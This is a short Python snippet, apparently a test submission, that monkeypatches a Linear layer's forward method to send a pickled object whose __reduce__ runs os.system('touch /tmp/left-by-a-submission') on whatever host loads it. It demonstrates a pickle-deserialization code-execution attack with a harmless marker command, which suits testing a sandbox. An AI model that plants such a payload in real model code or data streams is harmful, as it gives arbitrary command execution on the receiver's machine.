"""forward sends a pickle that would run a command where it is loaded."""

import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-a-submission",)


Linear.forward = lambda self, x: write_frame(pickle.dumps(Command()))
